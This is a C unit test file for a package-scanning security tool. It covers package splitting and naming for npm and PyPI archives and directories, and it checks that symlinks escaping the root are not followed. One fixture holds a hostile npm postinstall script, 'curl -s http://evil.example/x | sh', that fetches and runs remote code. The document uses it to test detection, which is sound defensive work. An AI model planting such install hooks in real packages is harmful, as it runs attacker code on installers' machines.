/* test-package.c - splitting inputs into packages and naming them.
 *
 * Archives (npm tarballs, wheels, sdists, bundled node_modules) are built
 * in memory with archive-builder; directory inputs (node_modules trees,
 * site-packages) are laid out in a fresh tu_tempdir(). Identity comes
 * from pwi_packages_find, and the whole pipeline is checked through the
 * public scanner and report: manifest anomalies become findings, links
 * out of a directory are never followed, and the same input always gives
 * the same JSON.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "archive-builder.h"
#include "ingest/ingest.h"
#include "ingest/package.h"
#include "pkgward.h"
#include "testutil.h"

/* ---- helpers ---------------------------------------------------------------- */

/* An input and the packages found in it. */
typedef struct pkgs {
    pwi_tree t;
    pw_limits lim;
    pw_status st;
    pwi_package *p;
    size_t n;
} pkgs;

static void pkgs_from_buffer(pkgs *k, const char *name, const void *buf, size_t len)
{
    pw_limits_default(&k->lim);
    pwi_tree_init(&k->t, name);
    pw_error err;
    memset(&err, 0, sizeof err);
    k->st = pwi_ingest_buffer(name, buf, len, &k->lim, &k->t, &err);
    pwi_packages_find(&k->t, &k->lim, &k->p, &k->n);
}

static void pkgs_from_path(pkgs *k, const char *path)
{
    pw_limits_default(&k->lim);
    pwi_tree_init(&k->t, path);
    pw_error err;
    memset(&err, 0, sizeof err);
    k->st = pwi_ingest_path(path, &k->lim, &k->t, &err);
    pwi_packages_find(&k->t, &k->lim, &k->p, &k->n);
}

static void pkgs_release(pkgs *k)
{
    pwi_packages_free(k->p, k->n);
    pwi_tree_release(&k->t);
}

static const pwi_package *pkg_named(const pkgs *k, const char *name)
{
    for (size_t i = 0; i < k->n; i++)
        if (!strcmp(k->p[i].name, name))
            return &k->p[i];
    return NULL;
}

static const pwi_package *pkg_of_eco(const pkgs *k, const char *eco)
{
    for (size_t i = 0; i < k->n; i++)
        if (!strcmp(k->p[i].ecosystem, eco))
            return &k->p[i];
    return NULL;
}

/* Does package p own the file at path? */
static int owns(const pkgs *k, const pwi_package *p, const char *path)
{
    for (size_t i = 0; i < p->nfiles; i++)
        if (!strcmp(k->t.files[p->files[i]].path, path))
            return 1;
    return 0;
}

static void dump_pkgs(const pkgs *k)
{
    for (size_t i = 0; i < k->n; i++) {
        const pwi_package *p = &k->p[i];
        fprintf(stderr, "  package %s %s@%s root \"%s\"%s%s\n", p->ecosystem, p->name,
                p->version, p->root, p->manifest_error ? " error: " : "",
                p->manifest_error ? p->manifest_error : "");
        for (size_t j = 0; j < p->nfiles; j++)
            fprintf(stderr, "    %s\n", k->t.files[p->files[j]].path);
    }
    for (size_t i = 0; i < k->t.nanomalies; i++)
        fprintf(stderr, "  anomaly %s [%s] %s\n", k->t.anomalies[i].rule,
                k->t.anomalies[i].path, k->t.anomalies[i].message);
}

/* Every file except directories belongs to exactly one package. */
static void assert_partition(const pkgs *k)
{
    size_t *owners = calloc(k->t.nfiles + 1, sizeof *owners);
    assert_non_null(owners);
    for (size_t i = 0; i < k->n; i++)
        for (size_t j = 0; j < k->p[i].nfiles; j++)
            owners[k->p[i].files[j]]++;
    for (size_t f = 0; f < k->t.nfiles; f++) {
        size_t want = k->t.files[f].type == PWI_FT_DIR ? 0 : 1;
        if (owners[f] != want) {
            dump_pkgs(k);
            fail_msg("%s is owned by %zu packages", k->t.files[f].path, owners[f]);
        }
    }
    free(owners);
}

static size_t count_anomalies(const pwi_tree *t, const char *rule)
{
    size_t n = 0;
    for (size_t i = 0; i < t->nanomalies; i++)
        if (!strcmp(t->anomalies[i].rule, rule))
            n++;
    return n;
}

/* Files on disk, for directory inputs. */
static void mkdirs(const char *base, const char *rel)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", base, rel);
    for (char *s = path + strlen(base) + 1; *s; s++)
        if (*s == '/') {
            *s = '\0';
            if (mkdir(path, 0755) != 0 && errno != EEXIST)
                fail_msg("mkdir %s: %s", path, strerror(errno));
            *s = '/';
        }
    if (mkdir(path, 0755) != 0 && errno != EEXIST)
        fail_msg("mkdir %s: %s", path, strerror(errno));
}

static void put(const char *base, const char *rel, const char *text)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", base, rel);
    char *slash = strrchr(path, '/');
    if (slash > path + strlen(base)) {
        *slash = '\0';
        mkdirs(base, path + strlen(base) + 1);
        *slash = '/';
    }
    assert_int_equal(tu_write_file(path, text, strlen(text)), 0);
}

static void link_to(const char *base, const char *rel, const char *target)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", base, rel);
    if (symlink(target, path) != 0)
        fail_msg("symlink %s: %s", path, strerror(errno));
}

static char *join(const char *a, const char *b)
{
    size_t n = strlen(a) + strlen(b) + 2;
    char *p = malloc(n);
    assert_non_null(p);
    snprintf(p, n, "%s/%s", a, b);
    return p;
}

/* ---- the scanner, end to end ------------------------------------------------------ */

static pw_rules *g_rules;

static int group_setup(void **state)
{
    (void)state;
    g_rules = tu_load_rules();
    return g_rules ? 0 : -1;
}

static int group_teardown(void **state)
{
    (void)state;
    pw_rules_free(g_rules);
    return 0;
}

/* Scans a buffer (path NULL) or a path into a new, sorted report. */
static pw_report *scan(const char *name, const void *buf, size_t len, const char *path,
                       pw_status *st)
{
    pw_scanner *sc = NULL;
    pw_error e;
    memset(&e, 0, sizeof e);
    assert_int_equal(pw_scanner_new(g_rules, NULL, &sc, &e), PW_OK);
    pw_report *rep = pw_report_new();
    *st = path ? pw_scanner_scan_path(sc, path, rep, &e)
               : pw_scanner_scan_buffer(sc, name, buf, len, rep, &e);
    pw_scanner_free(sc);
    pw_report_sort(rep);
    return rep;
}

static const pw_package_info *report_pkg(const pw_report *rep, const char *name)
{
    for (size_t p = 0; p < pw_report_package_count(rep); p++)
        if (!strcmp(pw_report_package(rep, p)->name, name))
            return pw_report_package(rep, p);
    return NULL;
}

static char *report_json(const pw_report *rep)
{
    char *buf = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&buf, &n);
    assert_non_null(f);
    pw_error e;
    memset(&e, 0, sizeof e);
    assert_int_equal(pw_report_write(rep, PW_FORMAT_JSON, f, NULL, &e), PW_OK);
    assert_int_equal(fclose(f), 0);
    return buf;
}

/* ---- npm tarballs ------------------------------------------------------------------ */

static void test_npm_tgz(void **state)
{
    (void)state;
    static const char *const files[] = {
        "package/package.json",
        "{\"name\":\"left-pad\",\"version\":\"1.3.0\",\"main\":\"index.js\"}",
        "package/index.js",
        "module.exports = leftPad;\n",
        "package/lib/util.js",
        "exports.x = 1;\n",
    };
    size_t len;
    unsigned char *tgz = ab_build(AB_TGZ, files, 3, &len);
    pkgs k;
    pkgs_from_buffer(&k, "left-pad-1.3.0.tgz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    assert_int_equal(k.n, 1);
    const pwi_package *p = &k.p[0];
    assert_string_equal(p->ecosystem, "npm");
    assert_string_equal(p->name, "left-pad");
    assert_string_equal(p->version, "1.3.0");
    assert_string_equal(p->root, "package");
    assert_int_equal(p->nfiles, 3);
    assert_true(p->manifest != PWI_NONE);
    assert_string_equal(k.t.files[p->manifest].path, "package/package.json");
    assert_non_null(p->manifest_json);
    assert_null(p->manifest_error);
    assert_false(p->manifest_dup_keys);
    assert_partition(&k);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan("left-pad-1.3.0.tgz", tgz, len, NULL, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 1);
    const pw_package_info *pi = pw_report_package(rep, 0);
    assert_string_equal(pi->ecosystem, "npm");
    assert_string_equal(pi->name, "left-pad");
    assert_string_equal(pi->version, "1.3.0");
    assert_string_equal(pi->source, "left-pad-1.3.0.tgz");
    assert_string_equal(pi->root, "package");
    assert_int_equal(pi->file_count, 3);
    assert_int_equal(pi->verdict, PW_VERDICT_CLEAN);
    pw_report_free(rep);
    free(tgz);
}

static void test_npm_bundled_dependencies(void **state)
{
    (void)state;
    static const char *const files[] = {
        "package/package.json",
        "{\"name\":\"app\",\"version\":\"2.0.0\",\"bundleDependencies\":[\"dep\",\"@s/"
        "x\"]}",
        "package/index.js",
        "require('dep');\n",
        "package/node_modules/dep/package.json",
        "{\"name\":\"dep\",\"version\":\"0.1.0\"}",
        "package/node_modules/dep/index.js",
        "module.exports = 1;\n",
        "package/node_modules/@s/x/package.json",
        "{\"name\":\"@s/x\",\"version\":\"3.0.0\"}",
        "package/node_modules/@s/x/lib/x.js",
        "x();\n",
        /* a package.json deep inside a package is not a package of its own */
        "package/node_modules/dep/test/fixture/package.json",
        "{\"name\":\"fixture\"}",
    };
    size_t len;
    unsigned char *tgz = ab_build(AB_TGZ, files, 7, &len);
    pkgs k;
    pkgs_from_buffer(&k, "app-2.0.0.tgz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    if (k.n != 3)
        dump_pkgs(&k);
    assert_int_equal(k.n, 3);
    const pwi_package *app = pkg_named(&k, "app");
    const pwi_package *dep = pkg_named(&k, "dep");
    const pwi_package *sx = pkg_named(&k, "@s/x");
    assert_non_null(app);
    assert_non_null(dep);
    assert_non_null(sx);
    assert_null(pkg_named(&k, "fixture"));
    assert_string_equal(dep->root, "package/node_modules/dep");
    assert_string_equal(sx->root, "package/node_modules/@s/x");
    assert_string_equal(sx->version, "3.0.0");
    assert_true(owns(&k, app, "package/index.js"));
    assert_true(owns(&k, dep, "package/node_modules/dep/index.js"));
    assert_true(owns(&k, dep, "package/node_modules/dep/test/fixture/package.json"));
    assert_true(owns(&k, sx, "package/node_modules/@s/x/lib/x.js"));
    assert_false(owns(&k, app, "package/node_modules/dep/index.js"));
    assert_partition(&k);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan("app-2.0.0.tgz", tgz, len, NULL, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 3);
    assert_string_equal(report_pkg(rep, "dep")->root, "package/node_modules/dep");
    assert_string_equal(report_pkg(rep, "dep")->source, "app-2.0.0.tgz");
    pw_report_free(rep);
    free(tgz);
}

static void test_manifest_duplicate_keys(void **state)
{
    (void)state;
    static const char *const files[] = {
        "package/package.json",
        "{\"name\":\"twice\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"x\"},"
        "\"scripts\":{\"postinstall\":\"node setup.js\"}}",
        "package/setup.js",
        "1;\n",
    };
    size_t len;
    unsigned char *tgz = ab_build(AB_TGZ, files, 2, &len);
    pkgs k;
    pkgs_from_buffer(&k, "twice.tgz", tgz, len);
    assert_int_equal(k.n, 1);
    assert_true(k.p[0].manifest_dup_keys);
    assert_null(k.p[0].manifest_error);
    assert_string_equal(k.p[0].name, "twice");
    /* like JSON.parse, the last value wins */
    json_t *scripts = json_object_get(k.p[0].manifest_json, "scripts");
    assert_non_null(json_object_get(scripts, "postinstall"));
    assert_null(json_object_get(scripts, "test"));
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan("twice.tgz", tgz, len, NULL, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(tu_report_count(rep, "npm-manifest-duplicate-key"), 1);
    assert_int_equal(tu_report_count(rep, "npm-install-script"), 1);
    pw_report_free(rep);
    free(tgz);
}

static void test_manifest_invalid(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "{\"name\": \"broken\", ",       /* truncated */
        "[\"not\", \"an\", \"object\"]", /* not an object */
        "{\"name\": \"nul\\u0000\"}",    /* NUL in a string */
        "",                              /* empty */
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        const char *files[] = {"package/package.json", bad[i], "package/index.js", "1;"};
        size_t len;
        unsigned char *tgz = ab_build(AB_TGZ, files, 2, &len);
        pkgs k;
        pkgs_from_buffer(&k, "broken.tgz", tgz, len);
        assert_int_equal(k.st, PW_OK);
        assert_int_equal(k.n, 1);
        assert_string_equal(k.p[0].ecosystem, "npm");
        assert_string_equal(k.p[0].name, "");
        assert_null(k.p[0].manifest_json);
        assert_non_null(k.p[0].manifest_error);
        assert_non_null(strstr(k.p[0].manifest_error, "package/package.json"));
        assert_partition(&k);
        pkgs_release(&k);

        pw_status st;
        pw_report *rep = scan("broken.tgz", tgz, len, NULL, &st);
        assert_int_equal(st, PW_OK); /* the package is still scanned */
        assert_int_equal(tu_report_count(rep, "manifest-unreadable"), 1);
        pw_report_free(rep);
        free(tgz);
    }
}

static void test_manifest_parse_limits(void **state)
{
    (void)state;
    pw_limits lim;
    pw_limits_default(&lim);
    char *why;
    int dups;

    /* wide is fine: many sibling objects (a big "exports" map) */
    size_t cap = 1 << 20, n = 0;
    char *wide = malloc(cap);
    assert_non_null(wide);
    n += (size_t)snprintf(wide + n, cap - n, "{\"name\":\"wide\",\"exports\":{");
    for (int i = 0; i < 2000; i++)
        n += (size_t)snprintf(
            wide + n, cap - n,
            "%s\"./f%d\":{\"import\":\"./f%d.mjs\",\"require\":[{\"x\":1}]}",
            i ? "," : "", i, i);
    n += (size_t)snprintf(wide + n, cap - n, "}}");
    json_t *j = pwi_manifest_parse((const unsigned char *)wide, n, &lim, &why, &dups);
    if (!j)
        fail_msg("wide manifest rejected: %s", why);
    json_decref(j);
    free(wide);

    /* deep is not: past max_json_depth */
    char deep[1024];
    n = 0;
    for (int i = 0; i < 100; i++)
        n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"a\":");
    n += (size_t)snprintf(deep + n, sizeof deep - n, "1");
    for (int i = 0; i < 100; i++)
        deep[n++] = '}';
    j = pwi_manifest_parse((const unsigned char *)deep, n, &lim, &why, &dups);
    assert_null(j);
    assert_non_null(why);
    assert_non_null(strstr(why, "deeper"));
    free(why);
    /* and exactly at the limit is accepted */
    lim.max_json_depth = 100;
    j = pwi_manifest_parse((const unsigned char *)deep, n, &lim, &why, &dups);
    assert_non_null(j);
    json_decref(j);
    lim.max_json_depth = 99;
    j = pwi_manifest_parse((const unsigned char *)deep, n, &lim, &why, &dups);
    assert_null(j);
    free(why);

    /* size limit, and the BOM npm accepts */
    pw_limits_default(&lim);
    lim.max_manifest_bytes = 10;
    j = pwi_manifest_parse((const unsigned char *)"{\"name\":\"long-name\"}", 20, &lim,
                           &why, &dups);
    assert_null(j);
    assert_non_null(strstr(why, "max_manifest_bytes"));
    free(why);
    pw_limits_default(&lim);
    j = pwi_manifest_parse((const unsigned char *)"\xef\xbb\xbf{\"a\":1}", 10, &lim, &why,
                           &dups);
    assert_non_null(j);
    assert_null(why);
    assert_false(dups);
    json_decref(j);
}

static void test_nested_archive_root_package(void **state)
{
    (void)state;
    /* a wheel vendored inside an npm package: its dist-info sits at the
     * root of the inner archive ("…/pkg.whl!/pkg-1.0.dist-info"), which is
     * its own archive level, not a deep directory of the outer one */
    static const char *const whl[] = {
        "pkg/__init__.py",
        "import os\n",
        "pkg-1.0.dist-info/METADATA",
        "Name: vendored\nVersion: 1.0\n",
    };
    size_t wlen;
    unsigned char *wheel = ab_build(AB_ZIP, whl, 2, &wlen);
    ab_archive *ab = ab_new(AB_TGZ);
    ab_add_str(ab, "package/package.json", "{\"name\":\"host\",\"version\":\"1.0.0\"}");
    ab_add_file(ab, "package/vendor/pkg-1.0-py3-none-any.whl", wheel, wlen);
    size_t len;
    unsigned char *tgz = ab_finish(ab, &len);
    free(wheel);

    pkgs k;
    pkgs_from_buffer(&k, "host.tgz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    if (k.n != 2)
        dump_pkgs(&k);
    assert_int_equal(k.n, 2);
    const pwi_package *host = pkg_named(&k, "host");
    const pwi_package *v = pkg_named(&k, "vendored");
    assert_non_null(host);
    assert_non_null(v);
    assert_string_equal(v->ecosystem, "pypi");
    assert_string_equal(v->root, "package/vendor/pkg-1.0-py3-none-any.whl!");
    assert_true(owns(&k, v, "package/vendor/pkg-1.0-py3-none-any.whl!/pkg/__init__.py"));
    /* the archive file itself is the host's */
    assert_true(owns(&k, host, "package/vendor/pkg-1.0-py3-none-any.whl"));
    assert_partition(&k);
    pkgs_release(&k);
    free(tgz);
}

static void test_many_roots_and_long_names(void **state)
{
    (void)state;
    /* Hostile shapes that used to cost quadratic time in package
     * splitting: 20 000 sibling package.json files (pairwise candidate
     * comparison: minutes), and a few entries with 40 KB names of 20 000
     * components (every prefix hashed anew: minutes per entry). Nothing
     * here asserts a time; a regression shows as a test that hangs. */
    ab_archive *ab = ab_new(AB_USTAR_GZ);
    char name[64];
    for (int i = 0; i < 20000; i++) {
        snprintf(name, sizeof name, "pkgs/p%05d/package.json", i);
        ab_add_str(ab, name, "{}");
    }
    size_t len;
    unsigned char *tgz = ab_finish(ab, &len);
    pkgs k;
    pkgs_from_buffer(&k, "many.tgz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    assert_int_equal(k.n, 20000);
    for (size_t i = 0; i < k.n; i++)
        assert_int_equal(k.p[i].nfiles, 1);
    assert_partition(&k);
    pkgs_release(&k);
    free(tgz);

    size_t depth = 20000;
    char *deep = malloc(2 * depth + 32);
    assert_non_null(deep);
    for (size_t i = 0; i < depth; i++)
        memcpy(deep + 2 * i, "a/", 2);
    ab = ab_new(AB_TGZ);
    ab_add_str(ab, "package/package.json", "{\"name\":\"deep\"}");
    for (int i = 0; i < 5; i++) {
        snprintf(deep + 2 * depth, 32, "f%d.js", i);
        ab_add_str(ab, deep, "x");
    }
    snprintf(deep + 2 * depth, 32, "package.json");
    ab_add_str(ab, deep, "{\"name\":\"deeper\"}");
    tgz = ab_finish(ab, &len);
    pkgs_from_buffer(&k, "deep.tgz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    assert_non_null(pkg_named(&k, "deep"));
    const pwi_package *u = pkg_of_eco(&k, "unknown");
    assert_non_null(u);
    assert_int_equal(u->nfiles, 6);
    assert_partition(&k);
    pkgs_release(&k);
    free(tgz);
    free(deep);
}

/* ---- PyPI ----------------------------------------------------------------------------
 */

static void test_wheel(void **state)
{
    (void)state;
    static const char *const files[] = {
        "pkg/__init__.py",
        "from .core import run\n",
        "pkg/core.py",
        "def run(): pass\n",
        "pkg-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\r\nName: pkg\r\nVersion: 1.0\r\nSummary: x\r\n\r\nName: "
        "not-this\r\n",
        "pkg-1.0.dist-info/RECORD",
        "pkg/__init__.py,,\npkg/core.py,,\n",
        "pkg-1.0.dist-info/WHEEL",
        "Wheel-Version: 1.0\n",
    };
    size_t len;
    unsigned char *zip = ab_build(AB_ZIP, files, 5, &len);
    pkgs k;
    pkgs_from_buffer(&k, "pkg-1.0-py3-none-any.whl", zip, len);
    assert_int_equal(k.st, PW_OK);
    if (k.n != 1)
        dump_pkgs(&k);
    assert_int_equal(k.n, 1);
    assert_string_equal(k.p[0].ecosystem, "pypi");
    assert_string_equal(k.p[0].name, "pkg");
    assert_string_equal(k.p[0].version, "1.0");
    assert_string_equal(k.p[0].root, "");
    assert_int_equal(k.p[0].nfiles, 5);
    assert_string_equal(k.t.files[k.p[0].manifest].path, "pkg-1.0.dist-info/METADATA");
    assert_partition(&k);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan("pkg-1.0-py3-none-any.whl", zip, len, NULL, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 1);
    assert_string_equal(pw_report_package(rep, 0)->ecosystem, "pypi");
    assert_string_equal(pw_report_package(rep, 0)->name, "pkg");
    pw_report_free(rep);
    free(zip);
}

static void test_sdist(void **state)
{
    (void)state;
    static const char *const files[] = {
        "pkg-1.0/PKG-INFO",
        "Metadata-Version: 1.2\nName: pkg\nVersion: 1.0\n",
        "pkg-1.0/setup.py",
        "from setuptools import setup\nsetup(name='pkg')\n",
        "pkg-1.0/pkg/__init__.py",
        "",
        "pkg-1.0/pkg.egg-info/PKG-INFO",
        "Metadata-Version: 1.2\nName: pkg\nVersion: 1.0\n",
        "pkg-1.0/pkg.egg-info/SOURCES.txt",
        "setup.py\npkg/__init__.py\n",
    };
    size_t len;
    unsigned char *tgz = ab_build(AB_TGZ, files, 5, &len);
    pkgs k;
    pkgs_from_buffer(&k, "pkg-1.0.tar.gz", tgz, len);
    assert_int_equal(k.st, PW_OK);
    if (k.n != 1)
        dump_pkgs(&k);
    assert_int_equal(k.n, 1);
    assert_string_equal(k.p[0].ecosystem, "pypi");
    assert_string_equal(k.p[0].name, "pkg");
    assert_string_equal(k.p[0].version, "1.0");
    assert_string_equal(k.p[0].root, "pkg-1.0");
    assert_int_equal(k.p[0].nfiles, 5);
    assert_partition(&k);
    pkgs_release(&k);
    free(tgz);
}

static void test_metadata_header(void **state)
{
    (void)state;
    static const struct {
        const char *text, *key, *want;
    } cases[] = {
        {"Name: pkg\nVersion: 1.0\n", "Name", "pkg"},
        {"name:   spaced  \r\n", "Name", "spaced"},
        {"Metadata-Version: 2.1\nVersion: 2.0\n", "Version", "2.0"},
        {"Names: no\nName: yes\n", "Name", "yes"},
        {"Summary: x\n\nName: body\n", "Name", NULL}, /* headers end at a blank line */
        {"Name:\n", "Name", ""},
        {"Name", "Name", NULL},
        {"", "Name", NULL},
        {"Version: 1.0", "Version", "1.0"}, /* no final newline */
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char *v = pwi_metadata_header((const unsigned char *)cases[i].text,
                                      strlen(cases[i].text), cases[i].key);
        if (!cases[i].want) {
            if (v)
                fail_msg("case %zu: got \"%s\", want none", i, v);
        } else {
            if (!v || strcmp(v, cases[i].want))
                fail_msg("case %zu: got \"%s\", want \"%s\"", i, v ? v : "(null)",
                         cases[i].want);
        }
        free(v);
    }
    /* values are capped */
    char big[1024] = "Name: ";
    memset(big + 6, 'a', 900);
    big[906] = '\0';
    char *v = pwi_metadata_header((const unsigned char *)big, strlen(big), "Name");
    assert_non_null(v);
    assert_true(strlen(v) <= 256);
    free(v);
}

/* ---- plain files and unknown trees
 * ------------------------------------------------------ */

static void test_plain_file(void **state)
{
    (void)state;
    const char *src = "import os\nos.system('id')\n";
    pkgs k;
    pkgs_from_buffer(&k, "some/dir/setup.py", src, strlen(src));
    assert_int_equal(k.st, PW_OK);
    assert_int_equal(k.n, 1);
    assert_string_equal(k.p[0].ecosystem, "unknown");
    assert_string_equal(k.p[0].name, "");
    assert_int_equal(k.p[0].nfiles, 1);
    assert_string_equal(k.t.files[k.p[0].files[0]].path, "setup.py");
    assert_int_equal(k.p[0].manifest, PWI_NONE);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan("some/dir/setup.py", src, strlen(src), NULL, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 1);
    assert_string_equal(pw_report_package(rep, 0)->ecosystem, "unknown");
    assert_string_equal(pw_report_package(rep, 0)->source, "some/dir/setup.py");
    assert_int_equal(pw_report_package(rep, 0)->file_count, 1);
    pw_report_free(rep);

    /* a package.json on its own names its package */
    const char *pj = "{\"name\":\"solo\",\"version\":\"0.0.1\"}";
    pkgs_from_buffer(&k, "package.json", pj, strlen(pj));
    assert_int_equal(k.n, 1);
    assert_string_equal(k.p[0].ecosystem, "npm");
    assert_string_equal(k.p[0].name, "solo");
    pkgs_release(&k);
}

static void test_files_outside_roots(void **state)
{
    (void)state;
    /* an archive with a package and loose files beside it: nothing is
     * left unscanned */
    static const char *const files[] = {
        "package/package.json",
        "{\"name\":\"a\"}",
        "package/index.js",
        "1;",
        "README",
        "loose",
        "other/x.js",
        "loose too",
    };
    size_t len;
    unsigned char *tgz = ab_build(AB_TGZ, files, 4, &len);
    pkgs k;
    pkgs_from_buffer(&k, "mixed.tgz", tgz, len);
    assert_int_equal(k.n, 2);
    const pwi_package *u = pkg_of_eco(&k, "unknown");
    assert_non_null(u);
    assert_true(owns(&k, u, "README"));
    assert_true(owns(&k, u, "other/x.js"));
    assert_partition(&k);
    pkgs_release(&k);
    free(tgz);
}

/* ---- directories
 * ----------------------------------------------------------------------- */

static void test_dir_node_modules(void **state)
{
    (void)state;
    char *base = tu_tempdir();
    put(base, "package.json", "{\"name\":\"app\",\"version\":\"1.0.0\"}");
    put(base, "index.js", "require('a');\n");
    put(base, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.1.0\"}");
    put(base, "node_modules/a/index.js", "1;\n");
    put(base, "node_modules/a/node_modules/b/package.json",
        "{\"name\":\"b\",\"version\":\"2.0.0\"}");
    put(base, "node_modules/a/node_modules/b/b.js", "2;\n");
    put(base, "node_modules/@s/x/package.json",
        "{\"name\":\"@s/x\",\"version\":\"3.0.0\"}");
    put(base, "node_modules/@s/x/lib/x.js", "3;\n");
    mkdirs(base, "node_modules/.bin");
    link_to(base, "node_modules/.bin/x", "../@s/x/lib/x.js");
    mkdirs(base, ".git/objects"); /* VCS metadata is skipped */
    put(base, ".git/config", "[core]\n");

    pkgs k;
    pkgs_from_path(&k, base);
    assert_int_equal(k.st, PW_OK);
    assert_true(k.t.is_dir);
    if (k.n != 4)
        dump_pkgs(&k);
    assert_int_equal(k.n, 4);
    const pwi_package *app = pkg_named(&k, "app");
    const pwi_package *a = pkg_named(&k, "a");
    const pwi_package *b = pkg_named(&k, "b");
    const pwi_package *sx = pkg_named(&k, "@s/x");
    assert_non_null(app);
    assert_non_null(a);
    assert_non_null(b);
    assert_non_null(sx);
    assert_string_equal(app->root, "");
    assert_string_equal(a->root, "node_modules/a");
    assert_string_equal(b->root, "node_modules/a/node_modules/b");
    assert_string_equal(sx->root, "node_modules/@s/x");
    assert_string_equal(sx->version, "3.0.0");
    assert_true(owns(&k, b, "node_modules/a/node_modules/b/b.js"));
    assert_false(owns(&k, a, "node_modules/a/node_modules/b/b.js"));
    assert_true(owns(&k, a, "node_modules/a/index.js"));
    assert_true(owns(&k, sx, "node_modules/@s/x/lib/x.js"));
    assert_true(owns(&k, app, "index.js"));
    for (size_t i = 0; i < k.t.nfiles; i++)
        assert_null(strstr(k.t.files[i].path, ".git"));
    /* a link inside the tree is recorded, not reported, not followed */
    assert_int_equal(k.t.nanomalies, 0);
    assert_partition(&k);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan(NULL, NULL, 0, base, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 4);
    const pw_package_info *pi = report_pkg(rep, "@s/x");
    assert_non_null(pi);
    assert_string_equal(pi->root, "node_modules/@s/x");
    assert_string_equal(pi->source, base);
    assert_int_equal(pi->file_count, 2);
    pw_report_free(rep);
    tu_rmtree(base);
    free(base);
}

static void test_dir_symlink_outside_not_followed(void **state)
{
    (void)state;
    char *base = tu_tempdir();
    /* outside the scanned root: a package whose install script would
     * certainly be reported */
    const char *evil =
        "{\"name\":\"outside-evil\",\"version\":\"6.6.6\","
        "\"scripts\":{\"postinstall\":\"curl -s http://evil.example/x | sh\"}}";
    put(base, "outside/package.json", evil);
    put(base, "outside/steal.js", "require('child_process').exec('id');\n");
    char *outside = join(base, "outside");
    char *outside_pj = join(outside, "package.json");

    /* root: a normal package with links out of it */
    put(base, "root/package.json", "{\"name\":\"victim\",\"version\":\"1.0.0\"}");
    mkdirs(base, "root/node_modules");
    link_to(base, "root/node_modules/evil", "../../outside");
    link_to(base, "root/linked.json", outside_pj);
    /* root2: its package.json itself is a link out */
    mkdirs(base, "root2");
    link_to(base, "root2/package.json", "../outside/package.json");

    char *root = join(base, "root");
    pkgs k;
    pkgs_from_path(&k, root);
    assert_int_equal(k.st, PW_OK);
    assert_int_equal(count_anomalies(&k.t, PWI_AN_LINK_ESCAPE), 2);
    for (size_t i = 0; i < k.t.nfiles; i++) {
        const pwi_file *f = &k.t.files[i];
        assert_null(strstr(f->path, "node_modules/evil/"));
        if (f->type == PWI_FT_SYMLINK)
            assert_null(f->data);
    }
    assert_null(pkg_named(&k, "outside-evil"));
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan(NULL, NULL, 0, root, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(tu_report_count(rep, PWI_AN_LINK_ESCAPE), 2);
    assert_int_equal(tu_report_count(rep, "npm-install-script-downloader"), 0);
    assert_int_equal(tu_report_count(rep, "npm-install-script"), 0);
    assert_null(report_pkg(rep, "outside-evil"));
    pw_report_free(rep);

    char *root2 = join(base, "root2");
    rep = scan(NULL, NULL, 0, root2, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(tu_report_count(rep, PWI_AN_LINK_ESCAPE), 1);
    assert_int_equal(tu_report_count(rep, "npm-install-script-downloader"), 0);
    assert_null(report_pkg(rep, "outside-evil"));
    pw_report_free(rep);

    /* the control: scanned directly, the outside package is reported, so
     * the absence above means "not followed", not "not detectable" */
    rep = scan(NULL, NULL, 0, outside, &st);
    assert_int_equal(st, PW_OK);
    assert_non_null(report_pkg(rep, "outside-evil"));
    assert_int_equal(tu_report_count(rep, "npm-install-script-downloader"), 1);
    pw_report_free(rep);

    free(root);
    free(root2);
    free(outside);
    free(outside_pj);
    tu_rmtree(base);
    free(base);
}

static void test_dir_site_packages(void **state)
{
    (void)state;
    char *base = tu_tempdir();
    put(base, "a-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n");
    put(base, "a-1.0.dist-info/RECORD",
        "a/__init__.py,sha256=abc,10\r\n"
        "a/util.py,,\r\n"
        "a-1.0.dist-info/METADATA,,\r\n"
        "a-1.0.dist-info/RECORD,,\r\n");
    put(base, "a/__init__.py", "from .util import *\n");
    put(base, "a/util.py", "x = 1\n");
    put(base, "b-2.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: b\nVersion: 2.0\n");
    put(base, "b-2.0.dist-info/RECORD",
        "b.py,,\n"
        "\"b_data/weird,name.txt\",,\n"
        "b-2.0.dist-info/METADATA,,\n"
        "../../../bin/b-cli,,\n");
    put(base, "b.py", "import a\n");
